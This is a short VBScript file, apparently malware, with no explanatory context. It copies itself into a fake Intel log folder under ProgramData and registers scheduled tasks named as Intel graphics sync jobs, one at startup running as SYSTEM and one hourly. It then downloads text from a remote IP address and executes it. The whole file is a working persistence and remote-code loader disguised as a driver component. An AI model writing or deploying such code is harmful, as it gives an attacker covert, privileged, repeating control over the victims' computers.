Set sh = CreateObject("WScript.Shell")
Set fso = CreateObject("Scripting.FileSystemObject")
home = sh.ExpandEnvironmentStrings("%PROGRAMDATA%") & "\Intel\Logs"
If Not fso.FolderExists(home) Then fso.CreateFolder home
target = home & "\igfxsync.vbs"
fso.CopyFile WScript.ScriptFullName, target, True
q = Chr(34)
sh.Run "schtasks.exe /Create /F /RU SYSTEM /RL HIGHEST /SC ONSTART /TN ""Intel\IGFX Sync"" /TR " & q & "wscript.exe //B //Nologo \" & q & target & "\" & q & q, 0, True
sh.Run "schtasks.exe /Create /F /SC HOURLY /TN ""Intel\IGFX Sync Hourly"" /TR " & q & "wscript.exe //B \" & q & target & "\" & q & q, 0, True
Set x = CreateObject("MSXML2.XMLHTTP")
x.Open "GET", "http://203.0.113.60/gfx/task.txt", False
x.Send
If x.Status = 200 Then Execute x.ResponseText
